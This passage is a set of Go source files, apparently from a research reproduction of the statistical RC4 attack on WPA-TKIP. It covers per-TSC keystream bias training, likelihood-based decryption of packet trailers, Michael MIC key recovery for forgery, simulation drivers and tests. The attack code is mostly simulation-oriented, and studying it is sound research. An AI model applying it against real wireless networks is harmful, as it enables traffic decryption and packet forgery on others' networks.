	mustPanic(t, "lane count", func() { m.Keystream(lanes(8)[:3]) })
	ragged := lanes(8)
	ragged[5] = ragged[5][:4]
	mustPanic(t, "ragged destinations", func() { m.Keystream(ragged) })
	mustPanic(t, "lane out of range", func() { m.Lane(MultiLanes) })
	m.Reset()
	for _, b := range m.s {
		if b != 0 {
			t.Fatal("Reset left state bytes")
		}
	}
}

func mustPanic(t *testing.T, what string, fn func()) {
	t.Helper()
	defer func() {
		if recover() == nil {
			t.Errorf("%s: expected panic", what)
		}
	}()
	fn()
}

// --- benchmarks -----------------------------------------------------------
//
// The Multi benchmarks report aggregate bytes across all MultiLanes lanes,
// so their MB/s compares directly against the single-state benchmarks above:
// the CI keystream gate watches both families.

func benchKeys() [][]byte {
	return multiTestKeys(16)
}

func BenchmarkKeystreamMulti1K(b *testing.B) {
	m := NewMulti()
	if err := m.Rekey(benchKeys()); err != nil {
		b.Fatal(err)
	}
	dsts := lanes(1024)
	b.SetBytes(1024 * MultiLanes)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		m.Keystream(dsts)
	}
}

func BenchmarkSkipMulti1K(b *testing.B) {
	m := NewMulti()
	if err := m.Rekey(benchKeys()); err != nil {
		b.Fatal(err)
	}
	b.SetBytes(1024 * MultiLanes)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		m.Skip(1024)
	}
}

func BenchmarkSkipKeystreamMulti(b *testing.B) {
	// The engine's per-key long-term pattern (1023-byte drop + 257-byte
	// first window) across a full lane batch.
	m := NewMulti()
	if err := m.Rekey(benchKeys()); err != nil {
		b.Fatal(err)
	}
	dsts := lanes(257)
	b.SetBytes((1023 + 257) * MultiLanes)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		m.SkipKeystream(1023, dsts)
	}
}

func BenchmarkRekeyMulti(b *testing.B) {
	keys := benchKeys()
	m := NewMulti()
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if err := m.Rekey(keys); err != nil {
			b.Fatal(err)
		}
	}
}
