package tkip

import (
	"math/rand"

	"rc4break/internal/snapshot"
)

// CollectLane runs one fleet worker's model-mode collect loop: a fresh
// capture accumulator over the given positions, filled with `frames`
// model-sampled captures drawn from the lane's own RNG stream and stamped
// with the lane's stream identity. Like the cookie-attack counterpart, lane
// evidence is a pure function of (model, positions, trailer, laneSeed,
// frames), so an expired lease's re-capture is byte-identical to what the
// dead worker would have uploaded.
func CollectLane(model *PerTSCModel, positions []int, trailer []byte, stream snapshot.StreamInfo, laneSeed int64, frames uint64, workers int) (*Attack, error) {
	a, err := NewAttack(model, positions)
	if err != nil {
		return nil, err
	}
	a.Workers = workers
	a.Stream = stream
	rng := rand.New(rand.NewSource(laneSeed))
	if err := a.SimulateCaptures(rng, trailer, frames); err != nil {
		return nil, err
	}
	return a, nil
}
