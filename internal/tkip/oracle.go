package tkip

import (
	"rc4break/internal/checksum"
	"rc4break/internal/michael"
)

// TrailerOracle is the online acceptance check for the §5.3 attack: a
// candidate trailer (MIC ‖ ICV) for a known MSDU is accepted when the
// CRC-32 ICV verifies over MSDU ‖ MIC, after which the Michael MIC key is
// recovered by inversion — the §7.4 trailer verification that turns a
// decrypted packet into forgery capability. An optional Confirm hook adds a
// check on the recovered key itself (netsim implements it as a test
// forgery against the network), which rejects the rare pure-ICV collisions
// §5.4 observed once in the paper's own runs.
type TrailerOracle struct {
	DA, SA [6]byte
	MSDU   []byte
	// Confirm, when non-nil, validates a recovered MIC key; returning false
	// rejects the candidate and the search continues.
	Confirm func(micKey [michael.KeySize]byte) bool

	// Checks counts candidates tested; ICVPasses counts candidates that
	// passed the ICV but were rejected by Confirm plus the accepted one.
	Checks    uint64
	ICVPasses uint64
	// MICKey and Found record the accepted key.
	MICKey [michael.KeySize]byte
	Found  bool

	plain []byte // MSDU ‖ trailer scratch
}

// Check implements the online Oracle contract over trailer candidates.
func (o *TrailerOracle) Check(trailer []byte) bool {
	o.Checks++
	if len(trailer) != TrailerSize {
		return false
	}
	if o.plain == nil {
		o.plain = make([]byte, len(o.MSDU)+TrailerSize)
		copy(o.plain, o.MSDU)
	}
	copy(o.plain[len(o.MSDU):], trailer)
	if !checksum.VerifyICV(o.plain) {
		return false
	}
	o.ICVPasses++
	key, err := RecoverMICKeyFromPlaintext(o.DA, o.SA, o.plain)
	if err != nil {
		return false
	}
	if o.Confirm != nil && !o.Confirm(key) {
		return false
	}
	o.MICKey = key
	o.Found = true
	return true
}
