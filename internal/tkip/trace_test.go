package tkip

import "testing"

// TestTraceDedupWindowEviction pins the dedupWindow boundary contract
// documented on the constant: filling the window evicts nothing, probing
// neither refreshes nor evicts, and acceptance number window+1 evicts
// exactly the oldest accepted TSC — strictly FIFO, one at a time.
func TestTraceDedupWindowEviction(t *testing.T) {
	c := &TraceCollector{}
	for i := 1; i <= dedupWindow; i++ {
		if c.dup(TSC(i)) {
			t.Fatalf("fresh TSC %d reported duplicate while filling the window", i)
		}
	}
	// The window is exactly full: its oldest entry is still remembered, and
	// probing it does not advance the ring.
	if !c.dup(TSC(1)) {
		t.Fatal("oldest TSC forgotten before the window overflowed")
	}
	if !c.dup(TSC(1)) {
		t.Fatal("membership probe evicted or forgot the probed TSC")
	}
	if len(c.seen) != dedupWindow {
		t.Fatalf("window holds %d TSCs, want %d", len(c.seen), dedupWindow)
	}
	// Acceptance window+1 evicts TSC 1 — and only TSC 1.
	if c.dup(TSC(dedupWindow + 1)) {
		t.Fatal("fresh TSC reported duplicate at the window boundary")
	}
	if !c.dup(TSC(2)) {
		t.Fatal("eviction was not FIFO: TSC 2 evicted instead of TSC 1")
	}
	// The evicted TSC re-enters as a fresh acceptance (the documented
	// replay/wrap trade-off), which in turn evicts the now-oldest TSC 2.
	if c.dup(TSC(1)) {
		t.Fatal("evicted TSC still reported duplicate")
	}
	if !c.dup(TSC(1)) {
		t.Fatal("re-accepted TSC not remembered")
	}
	if c.dup(TSC(2)) {
		t.Fatal("re-accepting an evicted TSC did not evict the oldest entry")
	}
	// Entries behind the eviction frontier are untouched.
	if !c.dup(TSC(4)) {
		t.Fatal("TSC 4 lost though only three evictions happened")
	}
	if len(c.seen) != dedupWindow {
		t.Fatalf("window drifted to %d TSCs, want %d", len(c.seen), dedupWindow)
	}
}
