package tkip

import (
	"errors"
	"math"
	"math/rand"

	"rc4break/internal/checksum"
	"rc4break/internal/dataset"
	"rc4break/internal/michael"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
)

// Attack accumulates ciphertext statistics for the §5.3 packet-decryption
// attack: the victim is made to transmit many encryptions of one identical
// packet (§5.2), and for each unknown plaintext position the attacker keeps
// per-TSC-class ciphertext byte counts.
type Attack struct {
	Model     *PerTSCModel
	Positions []int    // 1-indexed keystream positions under attack
	counts    []uint64 // [class][posIdx][cipherByte]
	Frames    uint64
	// Workers bounds the parallelism of SimulateCaptures; 0 means
	// GOMAXPROCS. Results are bitwise identical for any value.
	Workers int
	// Stream, when set by a capture driver, records which stream the
	// frames came from; it rides along in snapshots so an exact-mode
	// resume against a different stream can be rejected.
	Stream snapshot.StreamInfo

	// logDist caches the per-(position, class) log model distributions,
	// indexed [pi*256+class]. The model is immutable for the attack's
	// lifetime, but Likelihoods is re-run at every online decode point;
	// without the cache each pass recomputes 256 logarithms per (position,
	// class) pair — ~0.8M per pass at trailer scale.
	logDist []*[256]float64
}

// NewAttack prepares an attack over the given keystream positions, which
// must all be covered by the trained model.
func NewAttack(model *PerTSCModel, positions []int) (*Attack, error) {
	for _, p := range positions {
		if p < 1 || p > model.Positions {
			return nil, errors.New("tkip: position outside trained model")
		}
	}
	return &Attack{
		Model:     model,
		Positions: append([]int(nil), positions...),
		counts:    make([]uint64, 256*len(positions)*256),
	}, nil
}

// Observe folds one captured frame into the statistics. Retransmission
// filtering by TSC (§5.4) is the caller's concern; Observe assumes each
// frame is a distinct encryption.
func (a *Attack) Observe(f Frame) {
	class := int(f.TSC.TSC0())
	base := class * len(a.Positions) * 256
	for pi, pos := range a.Positions {
		a.counts[base+pi*256+int(f.Body[pos-1])]++
	}
	a.Frames++
}

// ObserveFrames folds a batch of captured frames in order — the trace
// collectors' batch contract, shared with cookieattack.ObserveRecords. The
// per-class counts are integers, so batching cannot change a bit; the win
// here is amortizing the call overhead and keeping the position list's
// count rows hot across the batch.
func (a *Attack) ObserveFrames(frames []Frame) {
	np := len(a.Positions)
	for i := range frames {
		f := &frames[i]
		base := int(f.TSC.TSC0()) * np * 256
		for pi, pos := range a.Positions {
			a.counts[base+pi*256+int(f.Body[pos-1])]++
		}
	}
	a.Frames += uint64(len(frames))
}

// ObserveKeystreamSample folds a model-sampled observation for class tsc0
// where the keystream byte at position index pi was z and the plaintext
// byte was pt. Used by the simulation drivers (model mode).
func (a *Attack) ObserveKeystreamSample(tsc0 byte, pi int, z, pt byte) {
	base := int(tsc0) * len(a.Positions) * 256
	a.counts[base+pi*256+int(z^pt)]++
}

// AddFrameCount is used with ObserveKeystreamSample to keep Frames correct.
func (a *Attack) AddFrameCount(n uint64) { a.Frames += n }

// logDistributions lazily builds the per-(position, class) log-distribution
// cache, fanned over the Workers pool (positions are independent).
func (a *Attack) logDistributions() error {
	if a.logDist != nil {
		return nil
	}
	ld := make([]*[256]float64, len(a.Positions)*256)
	err := dataset.ForShards(a.Workers, len(a.Positions), func(pi int) error {
		pos := a.Positions[pi]
		for class := 0; class < 256; class++ {
			logp, err := recovery.LogDistribution(a.Model.Distribution(byte(class), pos))
			if err != nil {
				return err
			}
			ld[pi*256+class] = logp
		}
		return nil
	})
	if err != nil {
		return err
	}
	a.logDist = ld
	return nil
}

// Likelihoods computes the per-position single-byte log-likelihoods by
// combining per-TSC evidence: the §5.1 product over TSC classes of the
// per-class likelihood (a sum in log space). Positions are independent, so
// the pass fans them over the Workers pool; within a position the classes
// accumulate in class order, so the result is bitwise identical for any
// worker count (and to the historical sequential pass).
func (a *Attack) Likelihoods() ([]*recovery.ByteLikelihoods, error) {
	if err := a.logDistributions(); err != nil {
		return nil, err
	}
	np := len(a.Positions)
	out := make([]*recovery.ByteLikelihoods, np)
	err := dataset.ForShards(a.Workers, np, func(pi int) error {
		total := new(recovery.ByteLikelihoods)
		for class := 0; class < 256; class++ {
			base := class*np*256 + pi*256
			row := a.counts[base : base+256]
			any := false
			for _, n := range row {
				if n != 0 {
					any = true
					break
				}
			}
			if !any {
				continue
			}
			recovery.SingleByteLikelihoodsFromLog(total, row, a.logDist[pi*256+class])
		}
		out[pi] = total
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}

// Observed reports the frames folded into the statistics — the online
// runtime's progress counter.
func (a *Attack) Observed() uint64 { return a.Frames }

// Decode returns a lazy best-first candidate source over the attacked
// positions — the online runtime's decode step. The source enumerates the
// full space on demand; the caller bounds the walk (max is advisory here,
// unlike the cookie attack's materialized list-Viterbi).
func (a *Attack) Decode(max int) (recovery.CandidateSource, error) {
	_ = max
	lks, err := a.Likelihoods()
	if err != nil {
		return nil, err
	}
	return recovery.NewSingleByteEnumerator(lks)
}

// RecoverTrailer runs the §5.3 candidate search: the attacked positions are
// the 12 trailer bytes (MIC ‖ ICV) of a packet whose MSDU plaintext is
// known. Candidates are generated in decreasing likelihood and pruned by
// the ICV check; on success the recovered MIC key is returned along with
// the 1-based candidate list position at which the check first passed
// (Figure 9's metric).
func (a *Attack) RecoverTrailer(da, sa [6]byte, knownMSDU []byte, maxDepth int) ([michael.KeySize]byte, int, error) {
	if len(a.Positions) != TrailerSize {
		return [michael.KeySize]byte{}, 0, errors.New("tkip: attack must cover exactly the 12 trailer bytes")
	}
	lks, err := a.Likelihoods()
	if err != nil {
		return [michael.KeySize]byte{}, 0, err
	}
	plain := make([]byte, len(knownMSDU)+TrailerSize)
	copy(plain, knownMSDU)
	cand, depth, err := recovery.SearchSingleByte(lks, func(trailer []byte) bool {
		copy(plain[len(knownMSDU):], trailer)
		return checksum.VerifyICV(plain)
	}, maxDepth)
	if err != nil {
		return [michael.KeySize]byte{}, 0, err
	}
	copy(plain[len(knownMSDU):], cand.Plaintext)
	key, err := RecoverMICKeyFromPlaintext(da, sa, plain)
	return key, depth, err
}

// SimulateCaptures fills the attack statistics with n model-mode captures:
// the TSC0 class cycles per packet (the TSC increments), and the keystream
// bytes at the attacked positions follow the trained per-TSC distributions.
// Rather than drawing each frame, the per-(class, position) ciphertext
// histograms are sampled directly as sufficient statistics (a per-cell
// normal approximation of the multinomial, exact in shape for the counts
// the likelihoods consume), making the cost independent of n — the same
// approach the paper's own Fig. 8 simulation scale demands. The plaintext
// pt supplies the true bytes at the attacked positions.
//
// TSC classes are statistically independent and write disjoint count
// regions, so the simulation fans the 256 classes out over a worker pool
// with one pre-seeded RNG per class (seeded from rng in class order). The
// result is bitwise identical for any Workers value.
func (a *Attack) SimulateCaptures(rng *rand.Rand, pt []byte, n uint64) error {
	if len(pt) != len(a.Positions) {
		return errors.New("tkip: plaintext length must match attacked positions")
	}
	seeds := make([]int64, 256)
	for class := range seeds {
		seeds[class] = rng.Int63()
	}
	perClass := float64(n) / 256
	err := dataset.ForShards(a.Workers, 256, func(class int) error {
		crng := rand.New(rand.NewSource(seeds[class]))
		base := class * len(a.Positions) * 256
		for pi, pos := range a.Positions {
			dist := a.Model.Distribution(byte(class), pos)
			row := a.counts[base+pi*256 : base+pi*256+256]
			for z := 0; z < 256; z++ {
				mean := perClass * dist[z]
				v := mean + math.Sqrt(mean)*crng.NormFloat64()
				if v < 0 {
					v = 0
				}
				row[z^int(pt[pi])] += uint64(v + 0.5)
			}
		}
		return nil
	})
	if err != nil {
		return err
	}
	a.AddFrameCount(n)
	return nil
}

// TrailerPositions returns the 1-indexed keystream positions of the MIC and
// ICV for an MSDU of the given length — with the paper's preferred 7-byte
// TCP payload these are positions 56..67 (§5.2 discusses why this placement
// beats a 0-byte payload).
func TrailerPositions(msduLen int) []int {
	out := make([]int, TrailerSize)
	for i := range out {
		out[i] = msduLen + 1 + i
	}
	return out
}

// ExpectedTrailerScore is a helper for experiments: the log-likelihood the
// model assigns the true trailer, useful for ranking diagnostics.
func ExpectedTrailerScore(lks []*recovery.ByteLikelihoods, trailer []byte) float64 {
	if len(lks) != len(trailer) {
		return math.Inf(-1)
	}
	var s float64
	for i, l := range lks {
		s += l[trailer[i]]
	}
	return s
}
