package tkip

import (
	"context"
	"encoding/gob"
	"errors"
	"io"
	"math/rand"
	"os"
	"sync"

	"rc4break/internal/dataset"
	"rc4break/internal/snapshot"
)

// PerTSCModel holds empirical keystream distributions conditioned on the
// TSC class — the §5.1 statistics behind the Paterson-style single-byte
// likelihood attack. The paper trained 2^32 keys per (TSC0, TSC1) pair over
// 128 positions (10 CPU-years); at laptop scale we condition on TSC0 with
// TSC1 fixed, which captures the K2 = TSC0 structure of the per-packet key,
// and make the keys-per-class count a knob.
type PerTSCModel struct {
	Positions int      // keystream positions covered (1..Positions)
	TSC1      byte     // the fixed TSC1 of this model
	Counts    []uint64 // [class=TSC0][pos][val]
	Keys      uint64   // keys per class

	// fingerprint caching (models are immutable once trained/loaded).
	fpOnce sync.Once
	fp     [16]byte
	fpErr  error
}

// TrainConfig controls per-TSC model training.
type TrainConfig struct {
	Positions  int    // keystream positions to cover
	KeysPerTSC uint64 // keys per TSC0 class
	TSC1       byte   // fixed TSC1 value
	Workers    int
	Master     [16]byte
	// Ctx, when non-nil, cancels training early; pair with
	// dataset.WithProgress to observe paper-scale runs. nil means
	// context.Background().
	Ctx context.Context
}

// trainLaneOffset keeps the training lane space (one KeySource lane per TSC0
// class) disjoint from the dataset package's lane offsets. Lanes are a fixed
// function of the class, so training is deterministic for a fixed master —
// the pre-engine worker pool seeded lanes by which goroutine happened to
// grab a class, making every training run irreproducible.
const trainLaneOffset uint64 = 1 << 32

// classSink counts keystream-byte occurrences for one TSC0 class, writing
// directly into that class's disjoint region of the shared model. Merging is
// therefore a no-op.
type classSink struct {
	counts    []uint64 // the class's [pos][val] region
	positions int
}

func (cs classSink) Window(win []byte) {
	for r := 0; r < cs.positions; r++ {
		cs.counts[r*256+int(win[r])]++
	}
}

func (cs classSink) Merge(other dataset.Sink) error {
	if _, ok := other.(classSink); !ok {
		return errors.New("tkip: incompatible training sink merge")
	}
	return nil
}

// Train estimates per-TSC keystream distributions by generating, for every
// TSC0 class, KeysPerTSC random keys with the mandated K0..K2 structure.
// Each class is one engine shard with its own KeySource lane, so the model
// is deterministic for a fixed master.
func Train(cfg TrainConfig) (*PerTSCModel, error) {
	if cfg.Positions <= 0 || cfg.KeysPerTSC == 0 {
		return nil, errors.New("tkip: positions and keys per TSC must be positive")
	}
	m := &PerTSCModel{
		Positions: cfg.Positions,
		TSC1:      cfg.TSC1,
		Counts:    make([]uint64, 256*cfg.Positions*256),
		Keys:      cfg.KeysPerTSC,
	}
	k0 := cfg.TSC1
	k1 := (cfg.TSC1 | 0x20) & 0x7f

	shards := make([]dataset.Shard, 256)
	for class := range shards {
		shards[class] = dataset.Shard{
			Lane:     trainLaneOffset + uint64(class),
			FirstKey: uint64(class) * cfg.KeysPerTSC,
			Keys:     cfg.KeysPerTSC,
		}
	}
	perClass := cfg.Positions * 256
	_, err := dataset.Engine{Workers: cfg.Workers}.Run(cfg.Ctx, dataset.Stream{
		Master:   cfg.Master,
		BlockLen: cfg.Positions,
		KeyDeriver: func(keyIndex uint64, key []byte) {
			// The shard layout maps global key indices to classes in
			// KeysPerTSC-sized runs.
			class := byte(keyIndex / cfg.KeysPerTSC)
			key[0], key[1], key[2] = k0, k1, class
		},
	}, shards, func(class int) dataset.Sink {
		return classSink{counts: m.Counts[class*perClass : (class+1)*perClass], positions: cfg.Positions}
	})
	if err != nil {
		return nil, err
	}
	return m, nil
}

// Distribution returns the add-one-smoothed probability vector of keystream
// position pos (1-indexed) in class tsc0. Smoothing keeps log-likelihoods
// finite when a cell was never observed at small training sizes.
func (m *PerTSCModel) Distribution(tsc0 byte, pos int) []float64 {
	base := int(tsc0)*m.Positions*256 + (pos-1)*256
	out := make([]float64, 256)
	den := float64(m.Keys + 256)
	for v := 0; v < 256; v++ {
		out[v] = (float64(m.Counts[base+v]) + 1) / den
	}
	return out
}

// Count returns the raw training count for (tsc0, pos, val).
func (m *PerTSCModel) Count(tsc0 byte, pos int, val byte) uint64 {
	return m.Counts[int(tsc0)*m.Positions*256+(pos-1)*256+int(val)]
}

// ModelSnapshotKind tags trained per-TSC models inside the shared snapshot
// envelope.
const ModelSnapshotKind = "rc4break.tkip.model.v1"

// modelState is the gob payload of a model snapshot — the exported model
// fields without the runtime-only fingerprint cache.
type modelState struct {
	Positions int
	TSC1      byte
	Counts    []uint64
	Keys      uint64
}

// Fingerprint identifies the trained model. Attack snapshots embed it so a
// capture resumed or merged against a different model is rejected instead of
// silently mixing likelihood spaces. The digest is computed once and cached;
// models are immutable after training or loading.
func (m *PerTSCModel) Fingerprint() ([16]byte, error) {
	m.fpOnce.Do(func() {
		m.fp, m.fpErr = snapshot.Fingerprint(modelState{
			Positions: m.Positions, TSC1: m.TSC1, Counts: m.Counts, Keys: m.Keys,
		})
	})
	return m.fp, m.fpErr
}

// Save persists the model as a checksummed snapshot envelope. Training is
// the expensive step of the §5 attack (the paper spent 10 CPU-years on its
// model), so a real tool trains once and reloads.
func (m *PerTSCModel) Save(w io.Writer) error {
	return snapshot.WriteGob(w, ModelSnapshotKind, modelState{
		Positions: m.Positions, TSC1: m.TSC1, Counts: m.Counts, Keys: m.Keys,
	})
}

// SaveFile atomically persists the model at path (temp file + rename): a
// crash mid-write must never leave a torn file where the expensive training
// artifact used to be.
func (m *PerTSCModel) SaveFile(path string) error {
	return snapshot.WriteFileGob(path, ModelSnapshotKind, modelState{
		Positions: m.Positions, TSC1: m.TSC1, Counts: m.Counts, Keys: m.Keys,
	})
}

// LoadModelFile loads a model from path (enveloped or legacy).
func LoadModelFile(path string) (*PerTSCModel, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return LoadModel(f)
}

// LoadModel reads a model written by Save and validates its shape. Legacy
// pre-envelope models (bare gob streams) still load; new writes always carry
// the envelope's version marker and checksum.
func LoadModel(r io.Reader) (*PerTSCModel, error) {
	replay, isEnvelope, err := snapshot.Sniff(r)
	if err != nil {
		return nil, err
	}
	m := new(PerTSCModel)
	if isEnvelope {
		var st modelState
		if err := snapshot.ReadGob(replay, ModelSnapshotKind, &st); err != nil {
			return nil, err
		}
		m.Positions, m.TSC1, m.Counts, m.Keys = st.Positions, st.TSC1, st.Counts, st.Keys
	} else if err := gob.NewDecoder(replay).Decode(m); err != nil {
		return nil, err
	}
	if m.Positions <= 0 || len(m.Counts) != 256*m.Positions*256 {
		return nil, errors.New("tkip: corrupt model (shape mismatch)")
	}
	if m.Keys == 0 {
		return nil, errors.New("tkip: corrupt model (zero key count)")
	}
	return m, nil
}

// SyntheticModel builds a per-TSC model whose class distributions deviate
// from uniform by Gaussian relative biases of the given RMS strength. The
// paper's Fig. 8 simulation runs against empirical distributions trained
// with 2^32 keys per class (negligible estimation noise, real bias
// magnitudes); reproducing that regime by training is CPU-years, so the
// figure drivers instead use a synthetic model with the bias strength
// calibrated to land the success curve in the paper's 2^20–2^24 window.
// See DESIGN.md's substitution table. strength is the RMS relative
// per-cell deviation (the TKIP per-TSC biases at the trailer positions are
// of order 2^-9..2^-11).
func SyntheticModel(positions int, strength float64, seed int64) *PerTSCModel {
	const scale = 1 << 30 // counts are quantized at this resolution
	rng := rand.New(rand.NewSource(seed))
	m := &PerTSCModel{
		Positions: positions,
		Counts:    make([]uint64, 256*positions*256),
		Keys:      scale,
	}
	for class := 0; class < 256; class++ {
		base := class * positions * 256
		for pos := 0; pos < positions; pos++ {
			row := m.Counts[base+pos*256 : base+pos*256+256]
			var total float64
			weights := make([]float64, 256)
			for v := 0; v < 256; v++ {
				w := 1 + strength*rng.NormFloat64()
				if w < 0.1 {
					w = 0.1
				}
				weights[v] = w
				total += w
			}
			for v := 0; v < 256; v++ {
				row[v] = uint64(weights[v] / total * scale)
			}
		}
	}
	return m
}
