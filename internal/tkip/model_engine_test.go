package tkip

import (
	"context"
	"testing"

	"rc4break/internal/dataset"
	"rc4break/internal/rc4"
)

// refTrain replicates engine-based training sequentially: one KeySource lane
// per TSC0 class at trainLaneOffset+class, KeysPerTSC keys each, with the
// mandated K0..K2 structure.
func refTrain(cfg TrainConfig) *PerTSCModel {
	m := &PerTSCModel{
		Positions: cfg.Positions,
		TSC1:      cfg.TSC1,
		Counts:    make([]uint64, 256*cfg.Positions*256),
		Keys:      cfg.KeysPerTSC,
	}
	k0 := cfg.TSC1
	k1 := (cfg.TSC1 | 0x20) & 0x7f
	key := make([]byte, 16)
	ks := make([]byte, cfg.Positions)
	for class := 0; class < 256; class++ {
		src := dataset.NewKeySource(cfg.Master, trainLaneOffset+uint64(class))
		base := class * cfg.Positions * 256
		for n := uint64(0); n < cfg.KeysPerTSC; n++ {
			src.NextKey(key)
			key[0], key[1], key[2] = k0, k1, byte(class)
			c := rc4.MustNew(key)
			c.Keystream(ks)
			for r := 0; r < cfg.Positions; r++ {
				m.Counts[base+r*256+int(ks[r])]++
			}
		}
	}
	return m
}

// TestTrainMatchesSequentialReference pins the engine-based Train to the
// sequential per-class loop: identical counts for a fixed master, regardless
// of worker count. The pre-engine worker pool seeded lanes by whichever
// goroutine grabbed a class, so training was not even reproducible run to
// run; the per-class lanes fix that, and this test locks the layout in.
func TestTrainMatchesSequentialReference(t *testing.T) {
	cfg := TrainConfig{Positions: 4, KeysPerTSC: 8, TSC1: 0x1c, Master: [16]byte{9}}
	want := refTrain(cfg)
	for _, workers := range []int{1, 4} {
		cfg.Workers = workers
		m, err := Train(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if m.Positions != want.Positions || m.Keys != want.Keys || m.TSC1 != want.TSC1 {
			t.Fatalf("workers=%d: header mismatch", workers)
		}
		for i := range m.Counts {
			if m.Counts[i] != want.Counts[i] {
				t.Fatalf("workers=%d: counts diverge at %d", workers, i)
			}
		}
	}
}

// TestTrainKeyStructure checks every generated key honors the §2.2 TKIP
// per-packet structure: the deriver's class decoding must map global key
// indices back to the shard's TSC0 class.
func TestTrainKeyStructure(t *testing.T) {
	cfg := TrainConfig{Positions: 2, KeysPerTSC: 4, TSC1: 0x7f}
	m, err := Train(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Spot-check: the counts of any class must reflect keystreams generated
	// with key[2] = class. Rebuild class 200 by hand and compare.
	k0 := cfg.TSC1
	k1 := (cfg.TSC1 | 0x20) & 0x7f
	const class = 200
	want := make([]uint64, cfg.Positions*256)
	src := dataset.NewKeySource(cfg.Master, trainLaneOffset+class)
	key := make([]byte, 16)
	ks := make([]byte, cfg.Positions)
	for n := uint64(0); n < cfg.KeysPerTSC; n++ {
		src.NextKey(key)
		key[0], key[1], key[2] = k0, k1, class
		c := rc4.MustNew(key)
		c.Keystream(ks)
		for r := 0; r < cfg.Positions; r++ {
			want[r*256+int(ks[r])]++
		}
	}
	base := class * cfg.Positions * 256
	for i, w := range want {
		if m.Counts[base+i] != w {
			t.Fatalf("class %d counts diverge at %d", class, i)
		}
	}
}

func TestTrainCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Train(TrainConfig{Positions: 4, KeysPerTSC: 1 << 10, Ctx: ctx}); err == nil {
		t.Error("Train ignored cancellation")
	}
}
