// Package tkip implements the WPA-TKIP cryptographic encapsulation of §2.2
// and the §5 attack against it: per-packet RC4 keys derived from the TKIP
// sequence counter (TSC), Michael MIC and CRC-32 ICV protection, per-TSC
// keystream distribution training (Paterson et al.'s observation that the
// public first three key bytes induce TSC-dependent keystream biases), and
// the candidate-list attack that decrypts a full packet and extracts the
// MIC key.
//
// Key-mixing substitution: the paper models the output of the 802.11 key
// mixing function KM(TA, TK, TSC) as uniformly random apart from the
// mandated structure of its first three bytes (§2.2), and bases the attack
// solely on that structure. We implement KM the same way — an AES-based PRF
// for bytes 3..15 plus the mandated K0..K2 — which preserves exactly the
// property the attack exploits. See DESIGN.md.
package tkip

import (
	"crypto/aes"
	"encoding/binary"
	"errors"

	"rc4break/internal/checksum"
	"rc4break/internal/michael"
	"rc4break/internal/rc4"
)

// TSC is the 48-bit TKIP sequence counter, transmitted in the clear in the
// MAC header and incremented per packet.
type TSC uint64

// TSC0 and TSC1 are the two least significant bytes, which determine the
// public first three bytes of the per-packet key.
func (t TSC) TSC0() byte { return byte(t) }
func (t TSC) TSC1() byte { return byte(t >> 8) }

// PublicKeyBytes returns the mandated first three bytes of the per-packet
// RC4 key [19, §11.4.2.1.1]:
//
//	K0 = TSC1,  K1 = (TSC1 | 0x20) & 0x7f,  K2 = TSC0.
func (t TSC) PublicKeyBytes() (k0, k1, k2 byte) {
	return t.TSC1(), (t.TSC1() | 0x20) & 0x7f, t.TSC0()
}

// MixKey derives the 16-byte per-packet RC4 key. Bytes 3..15 come from an
// AES-based PRF of (TA, TSC) under TK — the uniform-random model of §2.2 —
// and bytes 0..2 follow the mandated TSC structure.
func MixKey(tk [16]byte, ta [6]byte, tsc TSC) [16]byte {
	block, err := aes.NewCipher(tk[:])
	if err != nil {
		panic("tkip: impossible AES key error: " + err.Error())
	}
	var in, out [16]byte
	copy(in[:6], ta[:])
	binary.BigEndian.PutUint64(in[6:14], uint64(tsc))
	block.Encrypt(out[:], in[:])
	out[0], out[1], out[2] = tsc.PublicKeyBytes()
	return out
}

// Session holds the keys of one TKIP direction (AP to client or reverse).
type Session struct {
	TK     [16]byte              // temporal encryption key
	MICKey [michael.KeySize]byte // Michael key for this direction
	TA     [6]byte               // transmitter MAC address
	DA     [6]byte               // destination MAC address
	SA     [6]byte               // source MAC address
}

// Frame is one encrypted TKIP MPDU: the TSC from the (cleartext) header and
// the RC4-encrypted body MSDU ‖ MIC ‖ ICV.
type Frame struct {
	TSC  TSC
	Body []byte
}

// TrailerSize is the per-packet expansion: Michael MIC plus ICV.
const TrailerSize = michael.Size + checksum.ICVSize

// micMessage is the input to Michael: the MIC header (DA, SA, priority 0)
// followed by the MSDU.
func (s *Session) micMessage(msdu []byte) []byte {
	hdr := michael.Header(s.DA, s.SA, 0)
	return append(hdr[:], msdu...)
}

// Encapsulate builds the encrypted frame for msdu at the given TSC:
// append MIC and ICV, then RC4-encrypt under the mixed per-packet key
// (Figure 2).
func (s *Session) Encapsulate(msdu []byte, tsc TSC) Frame {
	mic := michael.Sum(s.MICKey, s.micMessage(msdu))
	plain := make([]byte, 0, len(msdu)+TrailerSize)
	plain = append(plain, msdu...)
	plain = append(plain, mic[:]...)
	icv := checksum.ICV(plain)
	plain = append(plain, icv[:]...)

	key := MixKey(s.TK, s.TA, tsc)
	c := rc4.MustNew(key[:])
	c.XORKeyStream(plain, plain)
	return Frame{TSC: tsc, Body: plain}
}

// ErrICV and ErrMIC are Decapsulate's integrity failures.
var (
	ErrICV = errors.New("tkip: ICV check failed")
	ErrMIC = errors.New("tkip: Michael MIC check failed")
)

// Decapsulate decrypts and verifies a frame, returning the MSDU.
func (s *Session) Decapsulate(f Frame) ([]byte, error) {
	if len(f.Body) < TrailerSize {
		return nil, errors.New("tkip: frame too short")
	}
	key := MixKey(s.TK, s.TA, f.TSC)
	c := rc4.MustNew(key[:])
	plain := make([]byte, len(f.Body))
	c.XORKeyStream(plain, f.Body)
	if !checksum.VerifyICV(plain) {
		return nil, ErrICV
	}
	msdu := plain[:len(plain)-TrailerSize]
	var mic [michael.Size]byte
	copy(mic[:], plain[len(msdu):len(msdu)+michael.Size])
	want := michael.Sum(s.MICKey, s.micMessage(msdu))
	if mic != want {
		return nil, ErrMIC
	}
	return msdu, nil
}

// RecoverMICKeyFromPlaintext inverts Michael from a fully decrypted frame
